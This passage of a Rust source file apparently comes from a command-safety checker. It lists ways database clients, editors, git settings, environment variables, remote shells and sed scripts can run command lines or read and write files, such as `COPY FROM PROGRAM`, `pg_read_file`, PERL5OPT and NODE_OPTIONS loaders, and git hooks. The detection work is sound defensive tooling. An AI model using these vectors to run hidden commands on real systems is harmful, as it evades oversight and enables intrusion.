    pub(crate) escapes: &'static [Escape],
    /// Whether its input is commands, whatever it is given (the line editors): an input
    /// from a download or another program's output is then a script known only at run time
    pub(crate) input_is_script: bool,
}

/// How a line of a client's statements runs a command line
#[derive(Debug)]
pub(crate) enum Escape {
    /// The rest of the line after this mark, wherever it stands (`\!`)
    Anywhere(&'static str),
    /// The rest of a line that starts with this word (`.shell`, `system`)
    LineStart(&'static str),
    /// The rest of a line that starts with this mark, a blank after it or not (ed's `!cmd`)
    Leading(&'static str),
    /// The command after `|` of a line that starts with this word (`\o |cmd`, `.once |cmd`)
    Pipe(&'static str),
    /// The quoted command after `PROGRAM` (`COPY t FROM PROGRAM 'cmd'`)
    Program,
    /// A file a line that starts with this word writes, named last on it (`\o FILE`,
    /// `.output FILE`): not a command, but a write of the client's own
    WritesFile(&'static str),
    /// The quoted file after `TO` in a copy out (`\copy (…) to 'FILE'`)
    CopyTo,
    /// The quoted file after this word, case aside, anywhere in a line: a function of SQL
    /// that reads a file (`readfile('F')`, `pg_read_file('F')`, `LOAD_FILE('F')`) or writes
    /// one (`writefile('F', …)`, `INTO OUTFILE 'F'`), as `writes` says
    FileAfter {
        /// The word, with its `(` for a function
        word: &'static str,
        /// Whether the file is written rather than read
        writes: bool,
    },
    /// Each line is an editor's Ex command (`:!cmd`, `call system("cmd")`; see `crate::vim`)
    Vim,
}

/// psql(1)'s meta-commands `\!`, `\o`, `\g`, `\w` and `COPY`/`\copy ... PROGRAM`
const PSQL_ESCAPES: &[Escape] = &[
    Escape::Anywhere("\\!"),
    Escape::Pipe("\\o"),
    Escape::Pipe("\\out"),
    Escape::Pipe("\\g"),
    Escape::Pipe("\\gx"),
    Escape::Pipe("\\w"),
    Escape::Pipe("\\write"),
    Escape::Program,
    Escape::WritesFile("\\o"),
    Escape::WritesFile("\\out"),
    Escape::WritesFile("\\w"),
    Escape::WritesFile("\\write"),
    Escape::CopyTo,
    // The server's own files (superuser or `pg_read_server_files`).
    Escape::FileAfter {
        word: "pg_read_file(",
        writes: false,
    },
    Escape::FileAfter {
        word: "pg_read_binary_file(",
        writes: false,
    },
    Escape::FileAfter {
        word: "lo_import(",
        writes: false,
    },
];

/// mysql(1)'s `system` (`\!`) and `pager` (`\P`) commands
const MYSQL_ESCAPES: &[Escape] = &[
    Escape::Anywhere("\\!"),
    Escape::LineStart("system"),
    Escape::LineStart("pager"),
    Escape::LineStart("\\P"),
    // The server's files (`FILE` privilege), and the client's with `LOCAL INFILE`.
    Escape::FileAfter {
        word: "load_file(",
        writes: false,
    },
    Escape::FileAfter {
        word: "infile",
        writes: false,
    },
    Escape::FileAfter {
        word: "outfile",
        writes: true,
    },
    Escape::FileAfter {
        word: "dumpfile",
        writes: true,
    },
];

/// The dot-commands of sqlite3(1)'s shell (and DuckDB's, made from it)
const SQLITE_ESCAPES: &[Escape] = &[
    Escape::LineStart(".shell"),
    Escape::LineStart(".system"),
    Escape::Pipe(".output"),
    Escape::Pipe(".once"),
    Escape::Pipe(".import"),
    Escape::Pipe(".read"),
    Escape::WritesFile(".output"),
    Escape::WritesFile(".once"),
    Escape::WritesFile(".save"),
    Escape::WritesFile(".backup"),
    // The sqlite3 shell's own functions (sqlite3(1), "fileio").
    Escape::FileAfter {
        word: "readfile(",
        writes: false,
    },
    Escape::FileAfter {
        word: "writefile(",
        writes: true,
    },
];

/// Every client whose statements may run a command line: database clients, and the line
/// editors
pub(crate) const DATABASE_CLIENTS: &[DatabaseClient] = &[
    DatabaseClient {
        name: "psql",
        code_options: &["-c", "--command"],
        statement_operands: false,
        escapes: PSQL_ESCAPES,
        input_is_script: false,
    },
    DatabaseClient {
        name: "mysql",
        code_options: &["-e", "--execute"],
        statement_operands: false,
        escapes: MYSQL_ESCAPES,
        input_is_script: false,
    },
    DatabaseClient {
        name: "mariadb",
        code_options: &["-e", "--execute"],
        statement_operands: false,
        escapes: MYSQL_ESCAPES,
        input_is_script: false,
    },
    DatabaseClient {
        name: "sqlite3",
        code_options: &["-cmd"],
        statement_operands: true,
        escapes: SQLITE_ESCAPES,
        input_is_script: false,
    },
    DatabaseClient {
        name: "duckdb",
        code_options: &["-c", "-cmd", "-s"],
        statement_operands: true,
        escapes: SQLITE_ESCAPES,
        input_is_script: false,
    },
    // The line editors read their commands from their input, where `!cmd` runs a shell
    // (ed(1), ex(1)): no database, but statements that reach one the same way.
    DatabaseClient {
        name: "ed",
        code_options: &[],
        statement_operands: false,
        escapes: &[Escape::Leading("!")],
        input_is_script: true,
    },
    // ex(1) and Vim in Ex mode (`vim -es`) read Ex commands, and Vim script, on their
    // input; given text to edit instead (`vim -`), a line of it is read the same way, which
    // sees more than runs, never less.
    DatabaseClient {
        name: "ex",
        code_options: &[],
        statement_operands: false,
        escapes: &[Escape::Vim],
        input_is_script: true,
    },
    DatabaseClient {
        name: "vim",
        code_options: &[],
        statement_operands: false,
        escapes: &[Escape::Vim],
        input_is_script: false,
    },
    DatabaseClient {
        name: "nvim",
        code_options: &[],
        statement_operands: false,
        escapes: &[Escape::Vim],
        input_is_script: false,
    },
    DatabaseClient {
        name: "vi",
        code_options: &[],
        statement_operands: false,
        escapes: &[Escape::Vim],
        input_is_script: false,
    },
];

/// A variable bash itself runs as a command line, in a shell it starts
const fn bash_variable(name: &'static str) -> CommandVariable {
    CommandVariable {
        name,
        programs: &["bash", "sh", "rbash"],
        marks: "",
        program: false,
    }
}

/// Whether the environment variable `name` is the one `pattern` names, a `*` standing for
/// any part of it (`CARGO_TARGET_*_RUNNER`)
pub(crate) fn variable_matches(pattern: &str, name: &str) -> bool {
    key_matches(pattern, name)
}

/// A row of [`COMMAND_VARIABLES`] for a program cargo runs by its path
const fn cargo_variable(name: &'static str) -> CommandVariable {
    CommandVariable {
        name,
        programs: &["cargo"],
        marks: "",
        program: true,
    }
}

/// A row of [`COMMAND_VARIABLES`] for a tool a build runs as a command line
const fn build_variable(name: &'static str) -> CommandVariable {
    CommandVariable {
        name,
        programs: BUILDERS,
        marks: "",
        program: false,
    }
}

/// The programs that build with the compilers and tools `CC`, `CXX`, `LD` and `AR` name
const BUILDERS: &[&str] = &[
    "make",
    "gmake",
    "cmake",
    "meson",
    "ninja",
    "configure",
    "cargo",
    "go",
    "pip",
    "pip3",
    "npm",
    "yarn",
    "pnpm",
    "node-gyp",
    "gem",
    "bundle",
    "python",
    "python3",
];

/// Whether `program` is an interpreter that `args` leave to read its code from its input:
/// no code on the command line, and no script but the input itself (`python3 - <<'EOF'`,
/// `node < /dev/stdin`)
pub(crate) fn reads_code_from_input(program: &str, args: &[String]) -> bool {
    interpreter(program).is_some_and(|row| {
        inline_code(row, args).is_empty()
            && script_operand(program, args).is_none_or(|file| STDIN_PATHS.contains(&file.as_str()))
    })
}

/// The interpreters whose script comes after a subcommand that runs it (`deno run -A -`,
/// `bun run x.ts`), one row each
const SCRIPT_SUBCOMMANDS: &[(&str, &str)] = &[("deno", "run"), ("bun", "run")];

/// The operand an interpreter takes its script from (`-` for its input), after the
/// subcommand that runs it where it has one ([`SCRIPT_SUBCOMMANDS`])
pub(crate) fn script_operand<'a>(program: &str, args: &'a [String]) -> Option<&'a String> {
    let mut operands = args
        .iter()
        .filter(|arg| !arg.starts_with('-') || *arg == "-");
    let first = operands.next();
    match first {
        Some(word)
            if SCRIPT_SUBCOMMANDS
                .iter()
                .any(|(name, run)| *name == program && word == run) =>
        {
            operands.next()
        }
        _ => first,
    }
}

/// The row of [`DATABASE_CLIENTS`] for `program`
pub(crate) fn database_client(program: &str) -> Option<&'static DatabaseClient> {
    DATABASE_CLIENTS.iter().find(|row| row.name == program)
}

/// The clients that read their statements (SQL, a key store's or a document store's
/// commands) from their input when their words give none (psql(1), mysql(1), sqlite3(1),
/// redis-cli(1), mongosh, ...): the text of a literal input is the text of their statements
pub(crate) const STATEMENT_CLIENTS: &[&str] = &[
    "psql",
    "mysql",
    "mariadb",
    "sqlite3",
    "duckdb",
    "cockroach",
    "clickhouse-client",
    "clickhouse",
    "sqlcmd",
    "usql",
    "sqlplus",
    "snowsql",
    "trino",
    "presto",
    "spark-sql",
    "beeline",
    "hive",
    "cqlsh",
    "dolt",
    "impala-shell",
    "vsql",
    "isql",
    "ysqlsh",
    "nzsql",
    "hdbsql",
    "influx",
    "mysqlsh",
    "cypher-shell",
    "redis-cli",
    "valkey-cli",
    "keydb-cli",
    "mongosh",
    "mongo",
];

/// A setting whose value is a command line a program runs, named by its key and, where
/// it has one, by an environment variable: one row, so the two spellings cannot drift
/// apart (`git -c core.sshCommand=CMD`, `GIT_SSH_COMMAND=CMD git`)
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) struct CommandSetting {
    /// The key, without case, a `*` standing for any subsection (`diff.*.textconv`)
    pub(crate) key: &'static str,
    /// The environment variable that sets it too, if any
    pub(crate) variable: Option<&'static str>,
    /// Whether it names an editor, given the file it edits, which only run time knows
    /// (`sequence.editor='sed -i …'` drops commits)
    pub(crate) editor: bool,
}

/// A setting only a key names
const fn key(key: &'static str) -> CommandSetting {
    CommandSetting {
        key,
        variable: None,
        editor: false,
    }
}

/// A setting a key and an environment variable name
const fn keyed(key: &'static str, variable: &'static str) -> CommandSetting {
    CommandSetting {
        key,
        variable: Some(variable),
        editor: false,
    }
}

/// An editor's setting, by key and environment variable
const fn editor(key: &'static str, variable: &'static str) -> CommandSetting {
    CommandSetting {
        key,
        variable: Some(variable),
        editor: true,
    }
}

/// git-config(1) and git(1)'s ENVIRONMENT VARIABLES: the settings whose value is a command
/// line git runs (a leading `!` marks one where a program name is also taken). `GIT_SSH`
/// names a program with no key of its own: `core.sshCommand` is the nearest.
pub(crate) const GIT_COMMAND_SETTINGS: &[CommandSetting] = &[
    key("core.fsmonitor"),
    keyed("core.sshcommand", "GIT_SSH_COMMAND"),
    keyed("core.sshcommand", "GIT_SSH"),
    keyed("core.gitproxy", "GIT_PROXY_COMMAND"),
    keyed("core.pager", "GIT_PAGER"),
    key("pager.*"),
    keyed("core.askpass", "GIT_ASKPASS"),
    key("core.alternaterefscommand"),
    keyed("diff.external", "GIT_EXTERNAL_DIFF"),
    key("diff.*.textconv"),
    key("diff.*.command"),
    key("difftool.*.cmd"),
    key("mergetool.*.cmd"),
    key("merge.*.driver"),
    key("filter.*.clean"),
    key("filter.*.smudge"),
    key("filter.*.process"),
    key("gpg.program"),
    key("gpg.*.program"),
    key("gpg.ssh.defaultkeycommand"),
    key("credential.helper"),
    key("credential.*.helper"),
    key("uploadpack.packobjectshook"),
    key("interactive.difffilter"),
    key("sendemail.tocmd"),
    key("sendemail.cccmd"),
    key("sendemail.sendmailcmd"),
    key("submodule.*.update"),
    key("remote.*.uploadpack"),
    key("remote.*.receivepack"),
    key("browser.*.cmd"),
    key("man.*.cmd"),
    editor("core.editor", "GIT_EDITOR"),
    editor("sequence.editor", "GIT_SEQUENCE_EDITOR"),
];

/// The command line a setting's value is, run as git runs it: an editor's given the file
/// it edits, known only at run time
pub(crate) fn setting_line(setting: &CommandSetting, value: &str) -> String {
    let line = value.strip_prefix('!').unwrap_or(value);
    if setting.editor {
        format!("{line} \"$@\"")
    } else {
        line.to_owned()
    }
}

/// The command line of a `KEY=VALUE` whose key is one of `settings`' (see
/// [`Carried::Settings`])
pub(crate) fn setting_script(settings: &[CommandSetting], value: &str) -> Option<String> {
    let (key, script) = value.split_once(['=', ' '])?;
    let key = key.to_ascii_lowercase();
    settings
        .iter()
        .find(|setting| key_matches(setting.key, &key))
        .map(|setting| setting_line(setting, script))
}

/// git's settings that name a folder its hooks are run from, each with the part of the
/// folder that holds them: githooks(5) `core.hooksPath`, and git-init(1)'s template folder,
/// whose `hooks` are copied into the repository it makes (`init.templateDir`, also given
/// as `git clone --template=DIR` and `git init --template=DIR`)
pub(crate) const GIT_HOOK_FOLDERS: &[(&str, &str)] =
    &[("core.hookspath", ""), ("init.templatedir", "/hooks")];

/// The folder git runs hooks from by the setting `key` (compared without case) set to
/// `folder`; `None` for any other setting
pub(crate) fn git_hook_folder(key: &str, folder: &str) -> Option<String> {
    GIT_HOOK_FOLDERS
        .iter()
        .find(|(setting, _)| key.eq_ignore_ascii_case(setting))
        .map(|(_, hooks)| format!("{}{hooks}", folder.trim_end_matches('/')))
}

/// The template folder of `git clone` or `git init` (`--template=DIR`, `--template DIR`)
pub(crate) fn git_template<'a>(subcommand: Option<&str>, args: &'a [String]) -> Option<&'a str> {
    if !matches!(subcommand, Some("clone" | "init")) {
        return None;
    }
    args.iter().enumerate().find_map(|(at, arg)| {
        if arg == "--template" {
            return args.get(at + 1).map(String::as_str);
        }
        arg.strip_prefix("--template=")
    })
}

/// An environment variable whose value a program runs as a command line
/// (`GIT_EXTERNAL_DIFF='...' git diff`, `LESSOPEN='|... %s' less f`)
#[derive(Debug)]
pub(crate) struct CommandVariable {
    /// The variable
    pub(crate) name: &'static str,
    /// The programs that run it; none listed: any program may (pagers and editors are
    /// started by git, man, psql, systemctl, crontab and many more)
    pub(crate) programs: &'static [&'static str],
    /// Characters the value may start with that mark how it is run, not what (`less`'s
    /// `|` and `||` for a piped preprocessor)
    pub(crate) marks: &'static str,
    /// Whether the value is one program's path, run with no shell between (cargo's
    /// `RUSTC_WRAPPER`), rather than a command line
    pub(crate) program: bool,
}

/// Every environment variable a program runs as a command line (git's are rows of
/// [`GIT_COMMAND_SETTINGS`]): their manuals (less(1)'s INPUT PREPROCESSOR, man(1), psql(1), systemctl(1),
/// rsync(1), sudo(8), ssh(1))
pub(crate) const COMMAND_VARIABLES: &[CommandVariable] = &[
    // bash(1): `PROMPT_COMMAND` runs before each prompt of an interactive shell, and the
    // prompt strings' `$(...)` run as they are expanded (`PS4` before each traced command).
    bash_variable("PROMPT_COMMAND"),
    bash_variable("PS0"),
    bash_variable("PS1"),
    bash_variable("PS2"),
    bash_variable("PS4"),
    CommandVariable {
        name: "LESSOPEN",
        programs: &["less"],
        marks: "|-",
        program: false,
    },
    CommandVariable {
        name: "LESSCLOSE",
        programs: &["less"],
        marks: "",
        program: false,
    },
    CommandVariable {
        name: "MANPAGER",
        programs: &["man"],
        marks: "",
        program: false,
    },
    // The pagers and editors tools of their own run: bat(1), kubectl edit, gh(1), the AWS
    // CLI; fzf(1) runs its default command to list what it offers.
    CommandVariable {
        name: "BAT_PAGER",
        programs: &["bat", "batcat"],
        marks: "",
        program: false,
    },
    CommandVariable {
        name: "KUBE_EDITOR",
        programs: &["kubectl", "oc"],
        marks: "",
        program: false,
    },
    CommandVariable {
        name: "GH_PAGER",
        programs: &["gh"],
        marks: "",
        program: false,
    },
    CommandVariable {
        name: "GH_EDITOR",
        programs: &["gh"],
        marks: "",
        program: false,
    },
    CommandVariable {
        name: "AWS_PAGER",
        programs: &["aws"],
        marks: "",
        program: false,
    },
    CommandVariable {
        name: "FZF_DEFAULT_COMMAND",
        programs: &["fzf"],
        marks: "",
        program: false,
    },
    CommandVariable {
        name: "PSQL_PAGER",
        programs: &["psql"],
        marks: "",
        program: false,
    },
    CommandVariable {
        name: "PSQL_EDITOR",
        programs: &["psql"],
        marks: "",
        program: false,
    },
    CommandVariable {
        name: "SYSTEMD_PAGER",
        programs: &[],
        marks: "",
        program: false,
    },
    CommandVariable {
        name: "SYSTEMD_EDITOR",
        programs: &["systemctl"],
        marks: "",
        program: false,
    },
    CommandVariable {
        name: "SUDO_EDITOR",
        programs: &["sudoedit", "sudo"],
        marks: "",
        program: false,
    },
    CommandVariable {
        name: "SSH_ASKPASS",
        programs: &["ssh", "ssh-add", "scp", "sftp"],
        marks: "",
        program: false,
    },
    CommandVariable {
        name: "RSYNC_RSH",
        programs: &["rsync"],
        marks: "",
        program: false,
    },
    CommandVariable {
        name: "RSYNC_CONNECT_PROG",
        programs: &["rsync"],
        marks: "",
        program: false,
    },
    CommandVariable {
        name: "PAGER",
        programs: &[],
        marks: "",
        program: false,
    },
    CommandVariable {
        name: "EDITOR",
        programs: &[],
        marks: "",
        program: false,
    },
    CommandVariable {
        name: "VISUAL",
        programs: &[],
        marks: "",
        program: false,
    },
    // Where a page is opened: Python's `webbrowser` (a `%s` in the value is the address),
    // xdg-open, `git web--browse` and the many CLIs that open one.
    CommandVariable {
        name: "BROWSER",
        programs: &[],
        marks: "",
        program: false,
    },
    // sudo(8): `-A` runs the helper program the variable names to read the password.
    CommandVariable {
        name: "SUDO_ASKPASS",
        programs: &["sudo", "sudoedit"],
        marks: "",
        program: true,
    },
    // The shell programs start for a command or a prompt of their own: script(1) `-c` runs
    // `$SHELL -c`, screen(1) and xterm(1) run `$SHELL` in a new window, tmux(1)'s
    // `default-shell` is `$SHELL` and runs each `new-session` command, Vim's 'shell' option
    // is `$SHELL` for `:!` and `:shell`, less(1) and more(1) run `!` commands in it, flock(1)
    // `-c` and sudo(8) `-s` run it, and su(1) `-m` keeps it.
    CommandVariable {
        name: "SHELL",
        programs: &[
            "script", "screen", "xterm", "tmux", "vim", "vi", "nvim", "ex", "view", "less", "more",
            "flock", "sudo", "su",
        ],
        marks: "",
        program: true,
    },
    // The Cargo Book, "Environment variables": cargo runs the compiler, the wrapper around
    // it and rustdoc by these paths.
    cargo_variable("RUSTC_WRAPPER"),
    cargo_variable("RUSTC_WORKSPACE_WRAPPER"),
    cargo_variable("CARGO_BUILD_RUSTC_WRAPPER"),
    cargo_variable("RUSTC"),
    cargo_variable("CARGO_BUILD_RUSTC"),
    cargo_variable("RUSTDOC"),
    // `CARGO_TARGET_<TRIPLE>_LINKER` names the linker, `_RUNNER` the command line (split on
    // blanks) a built program is run with, for each target triple.
    cargo_variable("CARGO_TARGET_*_LINKER"),
    CommandVariable {
        name: "CARGO_TARGET_*_RUNNER",
        programs: &["cargo"],
        marks: "",
        program: false,
    },
    // The compilers and tools a build runs as command lines: make's `$(CC) …` through a
    // shell, the cc crate of cargo's build scripts, setuptools, node-gyp, cgo, autoconf.
    build_variable("CC"),
    build_variable("CXX"),
    build_variable("LD"),
    build_variable("AR"),
    // npm-config(7): a `npm_config_KEY` variable (any case) sets KEY, and `script-shell`
    // names the shell the package scripts run in (`SHELL -c SCRIPT`).
    npm_variable("npm_config_script_shell"),
    npm_variable("NPM_CONFIG_SCRIPT_SHELL"),
];

/// A row of [`COMMAND_VARIABLES`] for a program the package managers run by its path
const fn npm_variable(name: &'static str) -> CommandVariable {
    CommandVariable {
        name,
        programs: &["npm", "npx", "pnpm", "yarn"],
        marks: "",
        program: true,
    }
}

/// An environment variable whose value gives an interpreter options of its own, some of
/// which load or run code (`PERL5OPT='-Mx;system(...)'`, `NODE_OPTIONS='--require ./x.js'`)
#[derive(Debug)]
pub(crate) struct CodeVariable {
    /// The variable
    pub(crate) name: &'static str,
    /// The programs that read it (by name's start: `perl` covers `perl5.36`)
    pub(crate) programs: &'static [&'static str],
    /// The options in its value that load or run code
    pub(crate) loads: &'static [&'static str],
    /// Whether the value is itself code the program runs, in a language the reader does
    /// not read there (perldebug(1) `PERL5DB`, the debugger `perl -d` loads)
    pub(crate) code: bool,
    /// Starts of the options in its value whose value is a command line or code the program
    /// runs (`LESS='+!CMD'`, `MANOPT='--pager=CMD'`, `MAKEFLAGS='--eval=TEXT'`): what they
    /// run is not read there
    pub(crate) commands: &'static [&'static str],
    /// Whether a value only run time knows is let pass on a line that writes no file: the
    /// flags a build hands the compilers (`CFLAGS="$CFLAGS -O2"`, `$(pkg-config --cflags
    /// x)`) load a plugin only from a file, and with none written the plugin is no code the
    /// line made; on a line that writes one, the value may name it
    pub(crate) unknown_passes: bool,
}

/// A row of [`CODE_VARIABLES`] for the flags a build hands the compilers
const fn compiler_flags(name: &'static str) -> CodeVariable {
    CodeVariable {
        name,
        programs: BUILDERS,
        loads: COMPILER_LOADS,
        code: false,
        commands: &[],
        unknown_passes: true,
    }
}

/// The compilers' options that load code into the compiler or change what it runs
const COMPILER_LOADS: &[&str] = &["-fplugin", "-specs", "--specs"];

/// node(1)'s options that load a module before the program: a file, a package, a URL
const NODE_LOADS: &[&str] = &[
    "-r",
    "--require",
    "--import",
    "--loader",
    "--experimental-loader",
];

/// Every variable giving an interpreter or a build tool options that load or run code:
/// perlrun(1), node(1) `NODE_OPTIONS`, ruby(1) `RUBYOPT`, the JVM's `JAVA_TOOL_OPTIONS`,
/// `go help environment` `GOFLAGS` (`-toolexec=PROG` runs each tool through PROG), make(1)
/// `MAKEFLAGS` (a `SHELL=PROG` in it runs every recipe through PROG)
pub(crate) const CODE_VARIABLES: &[CodeVariable] = &[
    CodeVariable {
        name: "PERL5OPT",
        programs: &["perl"],
        loads: &["-M", "-m", "-d", "-I"],
        code: false,
        commands: &[],
        unknown_passes: false,
    },
    CodeVariable {
        name: "PERL5DB",
        programs: &["perl"],
        loads: &[],
        code: true,
        commands: &[],
        unknown_passes: false,
    },
    CodeVariable {
        name: "NODE_OPTIONS",
        programs: &["node", "npm", "npx", "yarn", "pnpm"],
        loads: NODE_LOADS,
        code: false,
        commands: &[],
        unknown_passes: false,
    },
    CodeVariable {
        name: "RUBYOPT",
        programs: &["ruby", "gem", "bundle", "rake"],
        loads: &["-r", "-I"],
        code: false,
        commands: &[],
        unknown_passes: false,
    },
    CodeVariable {
        name: "GOFLAGS",
        programs: &["go"],
        loads: &["-toolexec", "--toolexec", "-exec", "--exec"],
        code: false,
        commands: &[],
        unknown_passes: false,
    },
    CodeVariable {
        name: "MAKEFLAGS",
        programs: &["make", "gmake"],
        loads: &["SHELL="],
        code: false,
        commands: &["--eval"],
        unknown_passes: false,
    },
    CodeVariable {
        name: "GNUMAKEFLAGS",
        programs: &["make", "gmake"],
        loads: &["SHELL="],
        code: false,
        commands: &["--eval"],
        unknown_passes: false,
    },
    // npm-config(7): `npm_config_node_options` is the `NODE_OPTIONS` of the scripts npm runs.
    CodeVariable {
        name: "npm_config_node_options",
        programs: &["npm", "npx", "pnpm", "yarn"],
        loads: NODE_LOADS,
        code: false,
        commands: &[],
        unknown_passes: false,
    },
    CodeVariable {
        name: "NPM_CONFIG_NODE_OPTIONS",
        programs: &["npm", "npx", "pnpm", "yarn"],
        loads: NODE_LOADS,
        code: false,
        commands: &[],
        unknown_passes: false,
    },
    // less(1): `LESS` holds options, and an initial command `+!CMD` runs CMD in a shell;
    // man(1): `MANOPT` holds options, among them the pager's and the browser's command lines.
    CodeVariable {
        name: "LESS",
        programs: &["less"],
        loads: &[],
        code: false,
        commands: &["+!", "++!"],
        unknown_passes: false,
    },
    CodeVariable {
        name: "MANOPT",
        programs: &["man"],
        loads: &[],
        code: false,
        commands: &["-P", "--pager", "--html", "-H"],
        unknown_passes: false,
    },
    // The compilers' flags a build hands them: gcc(1) `-fplugin=FILE` loads a plugin into
    // the compiler, `-specs=FILE` rewrites the commands it runs.
    compiler_flags("CFLAGS"),
    compiler_flags("CXXFLAGS"),
    compiler_flags("CPPFLAGS"),
    compiler_flags("LDFLAGS"),
    CodeVariable {
        name: "JAVA_TOOL_OPTIONS",
        programs: &["java", "mvn", "gradle", "./gradlew", "./mvnw"],
        loads: &["-javaagent", "-agentlib", "-agentpath"],
        code: false,
        commands: &[],
        unknown_passes: false,
    },
];

/// The rows of [`COMMAND_VARIABLES`] that `program` runs
pub(crate) fn command_variables(
    program: &str,
) -> impl Iterator<Item = &'static CommandVariable> + '_ {
    COMMAND_VARIABLES
        .iter()
        .filter(move |row| row.programs.is_empty() || row.programs.contains(&program))
}

/// A program that runs a command line on other hosts, as `ssh HOST CMD` does: the words
/// after its options (and its host, for `ssh`) are joined into one shell line
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) struct RemoteShell {
    /// The programs
    pub(crate) programs: &'static [&'static str],
    /// The short options that take a value, the rest of their word or the next
    pub(crate) valued: &'static str,
    /// The long options that take the next word as their value
    pub(crate) valued_long: &'static [&'static str],
    /// Whether the first operand is the host, before the command (`ssh`); the others take
    /// their hosts from options (`pdsh -w`, `pssh -h FILE`)
    pub(crate) host_operand: bool,
}

/// Every program that runs a command line on other hosts, one row each
pub(crate) const REMOTE_SHELLS: &[RemoteShell] = &[
    // ssh(1)'s synopsis.
    RemoteShell {
        programs: &["ssh"],
        valued: "BbcDEeFIiJLlmOoPpQRSWw",
        valued_long: &[],
        host_operand: true,
    },
    // parallel-ssh: `pssh -h HOSTS_FILE CMD`, `-H HOST`.
    RemoteShell {
        programs: &["pssh", "parallel-ssh"],
        valued: "hHlpoetOxX",
        valued_long: &[
            "--hosts",
            "--host",
            "--user",
            "--par",
            "--outdir",
            "--errdir",
            "--timeout",
            "--option",
            "--extra-args",
            "--extra-arg",
        ],
        host_operand: false,
    },
    // pdsh(1): `pdsh -w HOSTS CMD`.
    RemoteShell {
        programs: &["pdsh"],
        valued: "wxgXRltufM",
        valued_long: &[],
        host_operand: false,
    },
    // clush(1): `clush -w NODES CMD`.
    RemoteShell {
        programs: &["clush"],
        valued: "wxgXlftuoOR",
        valued_long: &[
            "--nodes",
            "--exclude",
            "--group",
            "--xgroup",
            "--user",
            "--fanout",
            "--options",
            "--worker",
            "--dest",
        ],
        host_operand: false,
    },
];

/// Whether `program` runs command lines on other hosts (a row of [`REMOTE_SHELLS`])
pub(crate) fn is_remote_shell(program: &str) -> bool {
    REMOTE_SHELLS
        .iter()
        .any(|row| row.programs.contains(&program))
}

/// The command line `program` (`ssh [options] host command...`, `pdsh -w hosts
/// command...`) runs on other hosts: its words after its options and host, joined as ssh
/// joins them; `None` when it runs none (a login shell) or is no such program
pub(crate) fn remote_command(program: &str, args: &[String]) -> Option<String> {
    let row = REMOTE_SHELLS
        .iter()
        .find(|row| row.programs.contains(&program))?;
    let mut words = args.iter();
    let mut host = row.host_operand;
    let mut rest = Vec::new();
    while let Some(arg) = words.next() {
        if arg == "--" {
            if host {
                words.next()?;
            }
            rest.extend(words.by_ref());
            break;
        }
        if row.valued_long.contains(&arg.as_str()) {
            words.next();
            continue;
        }
        match arg.strip_prefix('-') {
            Some(long) if long.starts_with('-') => {}
            Some(cluster) if !cluster.is_empty() => {
                // The first letter that takes a value takes the rest, or the next word.
                if let Some(at) = cluster.find(|letter| row.valued.contains(letter)) {
                    if at + 1 == cluster.len() {
                        words.next()?;
                    }
                }
            }
            _ if host => host = false,
            _ => {
                rest.push(arg);
                rest.extend(words.by_ref());
                break;
            }
        }
    }
    let rest: Vec<&str> = rest.into_iter().map(String::as_str).collect();
    (!rest.is_empty()).then(|| rest.join(" "))
}

/// The scripts of a `sed` command: its `-e` values, or its first operand without one
pub(crate) fn sed_scripts(args: &[String]) -> impl Iterator<Item = &str> {
    let mut scripts = Vec::new();
    let mut from_options = false;
    let mut words = args.iter();
    let mut first_operand = None;
    while let Some(arg) = words.next() {
        if let Some(value) = arg.strip_prefix("--expression=") {
            scripts.push(value);
            from_options = true;
        } else if arg == "-e" || arg == "--expression" {
            scripts.extend(words.next().map(String::as_str));
            from_options = true;
        } else if arg == "-f" || arg == "--file" {
            words.next();
            from_options = true;
        } else if !arg.starts_with('-') && first_operand.is_none() {
            first_operand = Some(arg.as_str());
        }
    }
    if !from_options {
        scripts.extend(first_operand);
    }
    scripts.into_iter()
}

/// The script files of a `sed` command: its `-f FILE`, `--file FILE` and `--file=FILE`
pub(crate) fn sed_script_files(args: &[String]) -> impl Iterator<Item = &str> {
    let mut files = Vec::new();
    let mut words = args.iter();
    while let Some(arg) = words.next() {
        if let Some(file) = arg.strip_prefix("--file=") {
            files.push(file);
        } else if arg == "-f" || arg == "--file" {
            files.extend(words.next().map(String::as_str));
        } else if arg == "--" {
            break;
        }
    }
    files.into_iter()
}

/// Whether a `sed` script runs a command line: an `e` command, or an `s` command with the
/// `e` flag (GNU sed)
pub(crate) fn sed_executes(script: &str) -> bool {
    read_sed(script).executes
}

/// The files a `sed` script writes: its `w FILE` and `W FILE` commands and the `w FILE` flag
/// of `s`, which create or truncate FILE (the GNU sed manual); `/dev/stdout` and
/// `/dev/stderr` are its outputs, no files
pub(crate) fn sed_writes(script: &str) -> Vec<String> {
    read_sed(script).writes
}

/// What a `sed` script does beyond its output, as [`read_sed`] finds it
#[derive(Debug, Default)]
struct SedScript {
    /// It runs a command line
    executes: bool,
    /// The files it writes
    writes: Vec<String>,
}

/// Reads a `sed` script's commands: a file name runs to the end of its line, as in GNU sed
fn read_sed(script: &str) -> SedScript {
    let mut read = SedScript::default();
    let mut chars = script.chars().peekable();
    let mut file = |chars: &mut std::iter::Peekable<std::str::Chars<'_>>| {
        let name: String = chars.by_ref().take_while(|ch| *ch != '\n').collect();
        let name = name.trim_start();
        // sed expands no `~`: `w ~/x` is a folder named `~` in the working directory.
        if name.starts_with('~') {
            read.writes.push(format!("./{name}"));
        } else if !name.is_empty() && !matches!(name, "/dev/stdout" | "/dev/stderr") {
            read.writes.push(name.to_owned());
        }
    };
    loop {
        // An address: line numbers, `$`, `/regex/`, ranges, steps, `!`.
        while let Some(&ch) = chars.peek() {
            match ch {
                '0'..='9' | '$' | ',' | '~' | '!' | ' ' | '\t' | '{' | ';' | '\n' | '}' => {
                    chars.next();
                }
                '/' => {
                    chars.next();
                    skip_delimited(&mut chars, '/');
                }
                _ => break,
            }
        }
        match chars.next() {
            None => break,
            Some('e') => {
                read.executes = true;
                break;
            }
            Some('w' | 'W') => file(&mut chars),
            Some('s') => {
                let Some(delimiter) = chars.next() else {
                    break;
                };
                skip_delimited(&mut chars, delimiter);
                skip_delimited(&mut chars, delimiter);
                while let Some(&flag) = chars.peek() {
                    if matches!(flag, ';' | '\n' | '}') {
                        break;
                    }
                    chars.next();
                    match flag {
                        'e' => read.executes = true,
                        'w' => {
                            file(&mut chars);
                            break;
                        }
                        _ => {}
                    }
                }
            }
            // Any other command runs to the end of its line or `;`.
            Some(_) => {
                for ch in chars.by_ref() {
                    if matches!(ch, ';' | '\n') {
                        break;
                    }
                }
